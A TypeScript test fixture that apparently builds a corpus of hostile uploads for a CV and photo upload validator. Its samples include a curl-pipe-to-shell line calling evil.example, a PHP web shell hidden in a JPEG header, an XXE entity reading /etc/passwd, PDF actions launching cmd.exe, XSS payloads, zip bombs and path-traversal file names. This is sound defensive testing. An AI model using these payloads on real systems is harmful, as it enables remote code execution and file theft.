import { onePixelPng, pdfWithObjectStream, smallPdf, wordDocument, zipArchive } from '../../testing/files.ts';

/**
 * The hostile upload corpus (issue 15): files an attacker would try, each built here byte by byte
 * so the repository carries no live executables or bombs. README.md beside this file says what
 * each one is. `target` is the upload it is tried against: a CV (PDF or Word) or a photo (JPG/PNG).
 */
export interface HostileFile {
  name: string;
  target: 'cv' | 'photo';
  /** The type the browser would claim; the server goes by the bytes. */
  claimedType: string;
  bytes: () => Buffer;
}

const MB = 1024 * 1024;
const text = (value: string) => Buffer.from(value, 'latin1');
const windowsProgram = () =>
  Buffer.concat([
    text('MZ\x90\x00\x03\x00\x00\x00'),
    Buffer.alloc(56),
    text('PE\x00\x00'),
    Buffer.alloc(400),
  ]);
const pdfWith = (body: string) =>
  text(`%PDF-1.7\n1 0 obj << /Type /Catalog ${body} >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n`);

export const hostileFiles: readonly HostileFile[] = [
  { name: 'resume.pdf', target: 'cv', claimedType: 'application/pdf', bytes: windowsProgram },
  { name: 'resume.PDF', target: 'cv', claimedType: 'application/pdf', bytes: windowsProgram },
  { name: 'resume.pdf.exe', target: 'cv', claimedType: 'application/x-msdownload', bytes: windowsProgram },
  { name: 'me.png', target: 'photo', claimedType: 'image/png', bytes: windowsProgram },
  {
    name: 'linux-program.pdf',
    target: 'cv',
    claimedType: 'application/pdf',
    bytes: () => Buffer.concat([text('\x7fELF\x02\x01\x01'), Buffer.alloc(200)]),
  },
  {
    name: 'java-class.pdf',
    target: 'cv',
    claimedType: 'application/pdf',
    bytes: () => Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe]), Buffer.alloc(200)]),
  },
  {
    name: 'shell-script.pdf',
    target: 'cv',
    claimedType: 'application/pdf',
    bytes: () => text('#!/bin/sh\ncurl http://evil.example | sh\n'),
  },
  {
    name: 'page.pdf',
    target: 'cv',
    claimedType: 'application/pdf',
    bytes: () => text('<!doctype html><html><body><script>fetch("/api")</script></body></html>'),
  },
  {
    name: 'page-with-bom.pdf',
    target: 'cv',
    claimedType: 'application/pdf',
    bytes: () => text('\xef\xbb\xbf<html><script>alert(1)</script></html>'),
  },
  {
    name: 'page.png',
    target: 'photo',
    claimedType: 'image/png',
    bytes: () => text('<html><img src=x onerror=alert(1)></html>'),
  },
  {
    name: 'drawing.png',
    target: 'photo',
    claimedType: 'image/png',
    bytes: () =>
      text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'),
  },
  {
    name: 'drawing.svg',
    target: 'photo',
    claimedType: 'image/svg+xml',
    bytes: () =>
      text('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  },
  {
    name: 'html-pdf-polyglot.pdf',
    target: 'cv',
    claimedType: 'application/pdf',
    bytes: () => Buffer.concat([text('<html><script>alert(1)</script><!--\n'), smallPdf, text('-->')]),
  },
  {
    name: 'pdf-with-javascript.pdf',
    target: 'cv',
    claimedType: 'application/pdf',
    bytes: () => pdfWith('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
  },
  {
    name: 'pdf-with-launch.pdf',
    target: 'cv',
    claimedType: 'application/pdf',
    bytes: () => pdfWith('/OpenAction << /S /Launch /F (cmd.exe) >>'),
  },
  {
    name: 'pdf-with-attachment.pdf',
    target: 'cv',
    claimedType: 'application/pdf',
    bytes: () => pdfWith('/Names << /EmbeddedFiles << /Names [(a.exe) 2 0 R] >> >> /Type /EmbeddedFile'),
  },
  {
    name: 'pdf-with-hex-escaped-javascript.pdf',
    target: 'cv',
    claimedType: 'application/pdf',
    bytes: () => pdfWith('/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>'),
  },
  {
    name: 'pdf-with-hex-escaped-launch.pdf',
    target: 'cv',
    claimedType: 'application/pdf',
    bytes: () => pdfWith('/OpenAction << /S /#4C#61#75#6E#63#68 /F (cmd.exe) >>'),
  },
  {
    name: 'pdf-with-html-tail.pdf',
    target: 'cv',
    claimedType: 'application/pdf',
    bytes: () =>
      Buffer.concat([text('%PDF-1.4\n'), Buffer.alloc(2048, 'x'), text('<script>alert(1)</script>')]),
  },
  {
    name: 'zip-bomb.docx',
    target: 'cv',
    claimedType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    bytes: () => zipArchive([{ name: 'bomb.txt', content: Buffer.alloc(64 * MB) }]),
  },
  {
    name: 'zip-of-program.docx',
    target: 'cv',
    claimedType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    bytes: () => zipArchive([{ name: 'setup.exe', content: Buffer.alloc(4096) }]),
  },
  {
    name: 'word-shaped-zip-bomb.docx',
    target: 'cv',
    claimedType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    bytes: () => wordDocument(Buffer.alloc(64 * MB, ' ')),
  },
  {
    name: 'javascript-in-object-stream.pdf',
    target: 'cv',
    claimedType: 'application/pdf',
    bytes: () =>
      pdfWithObjectStream('<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>'),
  },
  {
    name: 'hex-escaped-javascript-in-object-stream.pdf',
    target: 'cv',
    claimedType: 'application/pdf',
    bytes: () =>
      pdfWithObjectStream('<< /Type /Catalog /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>'),
  },
  {
    name: 'object-stream-bomb.pdf',
    target: 'cv',
    claimedType: 'application/pdf',
    bytes: () => pdfWithObjectStream(`<< /Type /Catalog /Padding (${' '.repeat(40 * MB)}) >>`),
  },
  {
    name: 'xml-entity-attack.docx',
    target: 'cv',
    claimedType: 'application/msword',
    bytes: () =>
      text('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
  },
  {
    name: 'rich-text.doc',
    target: 'cv',
    claimedType: 'application/msword',
    bytes: () => text('{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata 0102}}}'),
  },
  { name: 'empty.pdf', target: 'cv', claimedType: 'application/pdf', bytes: () => Buffer.alloc(0) },
  { name: 'empty.png', target: 'photo', claimedType: 'image/png', bytes: () => Buffer.alloc(0) },
  {
    name: 'truncated.pdf',
    target: 'cv',
    claimedType: 'application/pdf',
    bytes: () => smallPdf.subarray(0, 40),
  },
  {
    name: 'truncated.png',
    target: 'photo',
    claimedType: 'image/png',
    bytes: () => onePixelPng.subarray(0, 40),
  },
  {
    name: 'php-in-truncated.jpg',
    target: 'photo',
    claimedType: 'image/jpeg',
    bytes: () =>
      Buffer.concat([
        Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]),
        text('JFIF\x00<?php system($_GET["c"]); ?>'),
        Buffer.alloc(64),
      ]),
  },
  {
    name: 'animation.png',
    target: 'photo',
    claimedType: 'image/png',
    bytes: () => Buffer.concat([text('GIF89a\x01\x00\x01\x00\x00\x00\x00;'), Buffer.alloc(32)]),
  },
  {
    name: 'bitmap.jpg',
    target: 'photo',
    claimedType: 'image/jpeg',
    bytes: () => Buffer.concat([text('BM'), Buffer.alloc(64)]),
  },
  {
    name: 'text.pdf',
    target: 'cv',
    claimedType: 'application/pdf',
    bytes: () => text('Just some plain text pretending to be a CV.'),
  },
  {
    name: 'antivirus-test.pdf',
    target: 'cv',
    claimedType: 'application/pdf',
    bytes: () => text('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'),
  },
  { name: '../../../etc/passwd', target: 'cv', claimedType: 'application/pdf', bytes: windowsProgram },
  { name: 'cv.pdf\u0000.exe', target: 'cv', claimedType: 'application/pdf', bytes: windowsProgram },
  {
    name: '..\\..\\windows\\photo.png',
    target: 'photo',
    claimedType: 'image/png',
    bytes: () => text('<script>alert(1)</script>'),
  },
  {
    name: 'oversize-by-one-byte.png',
    target: 'photo',
    claimedType: 'image/png',
    bytes: () => Buffer.concat([onePixelPng, Buffer.alloc(5 * MB + 1 - onePixelPng.length)]),
  },
  {
    name: 'oversize-by-one-byte.pdf',
    target: 'cv',
    claimedType: 'application/pdf',
    bytes: () => {
      const tail = text('\n%%EOF\n');
      return Buffer.concat([smallPdf, Buffer.alloc(34 * MB - smallPdf.length - tail.length), tail]);
    },
  },
];
